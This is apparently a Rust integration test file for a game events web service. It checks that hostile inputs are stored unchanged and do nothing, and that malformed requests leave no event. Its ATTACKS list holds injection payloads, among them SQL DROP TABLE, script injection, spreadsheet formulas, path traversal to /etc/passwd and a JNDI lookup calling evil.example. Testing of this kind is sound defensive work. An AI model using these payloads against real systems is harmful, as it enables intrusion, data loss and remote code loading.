//! Players who mean harm, or do not know better.

use reqwest::Method;
use reqwest::header::HOST;
use serde_json::json;
use tests::http::{client, get, post, send};
use tests::kafka;
use tests::stack::Stack;

const ATTACKS: [&str; 9] = [
    "'; DROP TABLE game_events; --",
    "\" OR 1=1 --",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "%2e%2e%2f%00{{7*7}}",
    "\",\"event_type\":\"level_up",
    "${jndi:ldap://evil.example/a}",
];

#[tokio::test(flavor = "multi_thread")]
async fn attacks_are_stored_as_they_were_sent_and_do_nothing() {
    let stack = Stack::start(&[("SCHEDULES", "off"), ("BATCHING_WINDOW", "1")]).await;
    let games = &stack.run.games;
    for attack in ATTACKS {
        let encoded: String = attack.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let request = client()
            .get(format!("{games}/defeat_enemy/?userid={encoded}"))
            .header(HOST, attack);
        let answer = send(request).await;
        assert_eq!(
            (answer.status, answer.text()),
            (200, format!("{attack}: Enemy defeated!"))
        );
        assert_eq!(answer.header("content-type"), "text/plain; charset=utf-8");
        assert_eq!(answer.header("x-content-type-options"), "nosniff");
        let guild = client()
            .post(format!("{games}/join_guild"))
            .json(&json!({"guild_name": attack}));
        assert_eq!(send(guild).await.text(), format!("Joined {attack} Guild!"));
        let request = client()
            .get(format!("{games}/purchase/{encoded}"))
            .header(HOST, attack);
        assert_eq!(send(request).await.text(), format!("{attack} Purchased!\n"));
    }
    // Bytes of a Host that are no ASCII come through as well.
    let name = "spieler-ß.example".as_bytes();
    let request = client()
        .get(format!("{games}/join_a_guild"))
        .header(HOST, name);
    assert_eq!(send(request).await.status, 200);

    let sent = ATTACKS.len();
    stack
        .sql_until("SELECT COUNT(*) AS n FROM game_events", |rows| {
            rows[0]["n"] == 2 * sent
        })
        .await;
    stack
        .sql_until("SELECT COUNT(*) AS n FROM events", |rows| {
            rows[0]["n"] == sent + 1
        })
        .await;
    for attack in ATTACKS {
        let literal = attack.replace('\'', "''");
        for (query, row) in [
            (
                format!(
                    "SELECT userid, Host, event_type FROM character_events WHERE userid = '{literal}'"
                ),
                json!({"userid": attack, "Host": attack, "event_type": "defeat_enemy"}),
            ),
            (
                format!(
                    "SELECT guild_name, userid FROM guild_events WHERE guild_name = '{literal}'"
                ),
                json!({"guild_name": attack, "userid": "001"}),
            ),
            (
                format!("SELECT event_type, Host FROM purchases WHERE Host = '{literal}'"),
                json!({"event_type": format!("{attack} purchased"), "Host": attack}),
            ),
        ] {
            assert_eq!(stack.sql(&query).await, [row], "{query}");
        }
    }
    let host = "SELECT Host FROM join_guild";
    assert_eq!(
        stack.sql(host).await,
        [json!({"Host": "spieler-ß.example"})]
    );
    assert_eq!(stack.count("SELECT COUNT(*) FROM dead_letter").await, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_refused_leaves_no_event() {
    let stack = Stack::start(&[("SCHEDULES", "off"), ("BATCHING_WINDOW", "1")]).await;
    let games = &stack.run.games;
    for n in ["0", "-1", "ten", "1000001", "1.5", ""] {
        for method in [Method::GET, Method::POST] {
            let request = client().request(method, format!("{games}/take_potion/?n={n}"));
            let told = send(request).await.problem(422).to_string();
            assert!(told.contains("1000000"), "says what is allowed: {told}");
        }
    }
    for userid in ["", "%0A", "%00", "%FF", &"x".repeat(129)] {
        get(format!("{games}/level_up?userid={userid}"))
            .await
            .problem(422);
    }
    get(format!("{games}/purchase/{}", "x".repeat(129)))
        .await
        .problem(422);
    let unknown = get(format!("{games}/sell_a_sword/")).await.problem(404);
    assert!(
        unknown.to_string().contains("/purchase_a_sword/"),
        "{unknown}"
    );
    let wrong = post(format!("{games}/level_up/")).await;
    wrong.problem(405);
    assert_eq!(wrong.header("allow"), "GET, HEAD");
    for (media, body, status) in [
        ("text/plain", "n=3", 415),
        ("application/json", "{", 400),
        ("application/json", "[]", 422),
        ("application/json", r#"{"n":"many"}"#, 422),
        ("application/x-www-form-urlencoded", "n=1&n=2", 422),
    ] {
        let request = client().post(format!("{games}/purchase_a_potion/"));
        send(request.header("Content-Type", media).body(body))
            .await
            .problem(status);
    }
    let large = client()
        .post(format!("{games}/take_potion"))
        .body(vec![b' '; 11 << 20]);
    send(large).await.problem(413);
    for topic in ["events", "game_events"] {
        assert_eq!(kafka::read(&stack.run.kafka, topic), vec![], "{topic}");
    }
}
